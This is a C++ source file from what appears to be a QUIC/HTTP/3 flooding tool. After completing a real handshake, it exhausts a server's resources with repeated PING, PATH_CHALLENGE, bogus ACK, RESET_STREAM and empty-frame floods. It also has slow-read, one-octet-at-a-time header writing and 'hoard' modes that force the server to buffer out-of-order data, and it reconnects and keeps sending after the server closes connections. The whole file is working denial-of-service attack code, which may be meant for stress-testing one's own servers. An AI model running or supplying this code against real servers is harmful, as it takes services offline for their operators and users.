// flood_inside.cc: what a client that completed its handshake can send without end. A connection that
// the server ends is made anew; slow kinds begin another one when they have done their worst with one.
#include "flood_inside.h"

#include <sys/socket.h>

#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <stdexcept>
#include <vector>

#include "base/writer.h"
#include "flood_client.h"
#include "flood_sockets.h"

namespace hawser::flood {
namespace {

using Octets = std::vector<std::uint8_t>;

constexpr std::uint64_t kStreams = 100;  // that a server lets a client open

void put_varint(Octets& out, std::uint64_t value) {
  std::array<std::uint8_t, 8> area;
  Writer writer(area);
  writer.varint(value);
  const Bytes written = writer.written();
  out.insert(out.end(), written.begin(), written.end());
}

void put_stream(Octets& out, std::uint64_t stream, std::uint64_t offset, Bytes data) {
  out.push_back(0x0e);  // STREAM with offset and length
  put_varint(out, stream);
  put_varint(out, offset);
  put_varint(out, data.size());
  out.insert(out.end(), data.begin(), data.end());
}

Octets repeated(const Octets& frame, std::size_t count) {
  Octets all;
  for (std::size_t i = 0; i < count; ++i) all.insert(all.end(), frame.begin(), frame.end());
  return all;
}

// A request as a HEADERS frame, with the static table of QPACK (RFC 9204): GET, https, localhost, path.
Octets request(const std::string& path) {
  Octets section = {0x00, 0x00, 0xd1, 0xd7, 0x50, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't', 0x51};
  put_varint(section, path.size());
  section.insert(section.end(), path.begin(), path.end());
  Octets frame = {0x01};
  put_varint(frame, section.size());
  frame.insert(frame.end(), section.begin(), section.end());
  return frame;
}

// What the n-th packet of a connection says; nothing: go on with the next connection, and leave this
// one as it is.
using Words = std::function<Octets(std::uint64_t n)>;

Words always(const Octets& frames) {
  return [frames](std::uint64_t) { return frames; };
}

// Requests on all streams, then wider windows for them, and then silence: nothing is acknowledged.
Octets slow_reader(const std::string& path, std::uint64_t n) {
  Octets frames;
  if (n < kStreams) {
    put_stream(frames, 4 * n, 0, request(path));
  } else if (n < 4 * kStreams) {
    frames.push_back(0x11);  // MAX_STREAM_DATA
    put_varint(frames, 4 * (n % kStreams));
    put_varint(frames, n << 20);
  }
  return frames;
}

// Heads that say they are 8,192 octets long and come an octet at a time, on all streams.
Octets slow_writer(std::uint64_t n) {
  Octets frames;
  const std::uint64_t round = n / kStreams;
  if (round >= 8'192) return frames;
  const Octets head = {0x01, 0x60, 0x00};
  put_stream(frames, 4 * (n % kStreams), round == 0 ? 0 : head.size() + round - 1,
             round == 0 ? Bytes(head) : Bytes(head).first(1));
  return frames;
}

// Data behind a gap, as far as the windows go: all of it has to be kept.
Octets hoarder(std::uint64_t n) {
  constexpr std::uint64_t kPacket = 1'100;
  constexpr std::uint64_t kPerStream = 900;        // under a megabyte
  constexpr std::uint64_t kPerConnection = 1'400;  // under one and a half
  Octets frames;
  const Octets data(kPacket, 0);
  if (n < kPerConnection) put_stream(frames, 4 * (n / kPerStream), 1 + n % kPerStream * kPacket, data);
  return frames;
}

const std::map<std::string, std::function<Words(const Options&)>>& kinds() {
  static const auto repeat = [](const Octets& frame) {
    return [frame](const Options&) { return always(repeated(frame, 8)); };
  };
  static const std::map<std::string, std::function<Words(const Options&)>> all = {
      {"ping", repeat({0x01})},
      {"path-challenge", repeat({0x1a, 1, 2, 3, 4, 5, 6, 7, 8})},
      {"retire-cid",
       [](const Options&) {
         return [](std::uint64_t n) { return Octets{0x19, static_cast<std::uint8_t>(n % 4), 0, 0}; };
       }},
      {"crypto-empty", repeat({0x06, 0, 0})},
      {"stream-empty", repeat({0x0a, 0, 0})},
      {"max-data", repeat({0x10, 0x01})},
      {"reset-stream", repeat({0x04, 0, 0, 0})},
      {"ack-unsent", [](const Options&) { return always({0x02, 0x80, 0x01, 0, 0, 0, 0, 0}); }},
      {"ack-old", repeat({0x02, 0, 0, 0, 0})},
      {"octets",
       [](const Options&) {
         return [](std::uint64_t n) {
           Octets frames;
           put_stream(frames, 2, n, Octets{0x21});
           return frames;
         };
       }},
      {"slow-read", [](const Options& o) { return [path = o.path](std::uint64_t n) { return slow_reader(path, n); }; }},
      {"slow-write", [](const Options&) { return &slow_writer; }},
      {"hoard", [](const Options&) { return &hoarder; }},
  };
  return all;
}

// One connection of the attacker: an honest handshake, then the liar alone.
class Attacker {
 public:
  explicit Attacker(const Options& options) : sockets_(one(options)) { client_.connect(); }

  [[nodiscard]] bool closed() const { return client_.closed; }
  [[nodiscard]] bool begun() const { return sent_ != 0; }

  enum class Result { kSent, kWaits, kDone };
  Result step(const Words& words) {
    const int fd = sockets_.fd(0);
    if (!keys_) {
      client_.receive(fd);
      if (client_.closed) return Result::kWaits;
      // The handshake, and its last flight.
      client_.transmit([fd](Bytes datagram) { (void)!::send(fd, datagram.data(), datagram.size(), 0); });
      if (!client_.complete) return Result::kWaits;
      // Packets to nobody would be another attack than the one that was asked for.
      if (client_.server_cid.view().empty()) throw std::runtime_error("the server's connection ID is not known");
      keys_.emplace(v1_key_table(), CipherSuite::kAes128GcmSha256, client_.secrets.at("CLIENT_TRAFFIC_SECRET_0"));
      peer_keys_.emplace(v1_key_table(), CipherSuite::kAes128GcmSha256, client_.secrets.at("SERVER_TRAFFIC_SECRET_0"));
    } else if (sent_ % kBatch == 0) {
      client_.listen(fd, *peer_keys_);
    }
    return send(words);
  }
  // One more packet of the attack, whether anybody listens or not.
  Result send(const Words& words) {
    Octets frames = words(sent_);
    if (frames.empty()) return Result::kDone;
    // Header protection samples 16 octets behind the number.
    if (frames.size() < 4) frames.resize(4);
    const auto datagram = seal(*keys_, {.level = EncryptionLevel::kOneRtt, .dcid = client_.server_cid.view()},
                               kFirstNumber + sent_, frames);
    if (!sockets_.send(0, datagram)) return Result::kWaits;
    ++sent_;
    return Result::kSent;
  }

 private:
  static constexpr std::uint64_t kFirstNumber = 1'000;  // above those of the handshake
  static Options one(Options options) {
    options.ports = options.sources = 1;
    return options;
  }

  Sockets sockets_;
  Client client_;
  std::optional<DirectionKeys> keys_;
  std::optional<DirectionKeys> peer_keys_;
  std::uint64_t sent_ = 0;
};

}  // namespace

bool is_inside_kind(const std::string& kind) {
  return kinds().contains(kind);
}

Outcome flood_inside(const Options& options) {
  const Words words = kinds().at(options.kind)(options);
  Outcome outcome;
  std::unique_ptr<Attacker> attacker;
  std::unique_ptr<Attacker> ended;              // by the server
  std::vector<std::unique_ptr<Attacker>> left;  // they hold on to what they have
  const auto send_one = [&] {
    if (attacker == nullptr || attacker->closed()) {
      if (attacker != nullptr && attacker->begun()) ended = std::move(attacker);
      attacker = std::make_unique<Attacker>(options);
      ++outcome.connections;
    }
    switch (attacker->step(words)) {
      case Attacker::Result::kSent:
        ++outcome.packets;
        return;
      case Attacker::Result::kDone:
        left.push_back(std::move(attacker));
        return;
      case Attacker::Result::kWaits:
        // The rate is kept, with packets to where nobody listens any more.
        if (ended != nullptr && ended->send(words) == Attacker::Result::kSent) ++outcome.packets_after_end;
        return;
    }
  };
  paced(options, [&](std::size_t count) {
    for (; count > 0; --count) send_one();
  });
  return outcome;
}

}  // namespace hawser::flood
